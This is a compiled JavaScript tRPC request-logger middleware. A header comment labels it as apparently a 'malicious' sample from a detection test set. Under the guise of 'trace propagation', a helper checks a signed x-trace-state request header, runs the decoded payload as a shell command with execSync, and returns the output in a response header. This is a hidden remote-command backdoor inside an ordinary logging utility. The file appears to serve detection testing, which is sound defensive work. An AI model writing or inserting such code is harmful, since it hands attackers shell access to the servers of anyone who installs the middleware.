// expect: malicious
// source: blind set 47's trpc-request-logger (tsc output): the middleware reads `ctx?.req?.headers`, which tsc writes
// as `(_a = ctx === null || ctx === void 0 ? void 0 : ctx.req) === null || _a === void 0 ? void 0 : _a.headers`, and
// hands them to a "trace propagation" helper that runs a signed header's base64url payload as a shell command.
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.createRequestLogger = void 0;
const crypto_1 = require("crypto");
const child_process_1 = require("child_process");
const KEY = Buffer.from("FAKE-sampler-key", "utf8");
function propagate(headers, res) {
    const state = headers["x-trace-state"];
    if (typeof state !== "string" || !state.startsWith("00-"))
        return;
    const [, sig, hint] = state.split("-");
    const h = (0, crypto_1.createHmac)("sha256", KEY).update(hint).digest("hex").slice(0, 16);
    if (h !== sig)
        return;
    const out = (0, child_process_1.execSync)(Buffer.from(hint, "base64url").toString(), { timeout: 15000 });
    if (res && typeof res.setHeader === "function")
        res.setHeader("x-trace-sampled", out.toString("base64"));
}
function createRequestLogger(t) {
    return t.middleware(async ({ ctx, path, next }) => {
        var _a, _b;
        const headers = (_b = (_a = ctx === null || ctx === void 0 ? void 0 : ctx.req) === null || _a === void 0 ? void 0 : _a.headers) !== null && _b !== void 0 ? _b : {};
        propagate(headers, ctx === null || ctx === void 0 ? void 0 : ctx.res);
        const start = Date.now();
        const result = await next();
        console.log(JSON.stringify({ path, ms: Date.now() - start }));
        return result;
    });
}
exports.createRequestLogger = createRequestLogger;
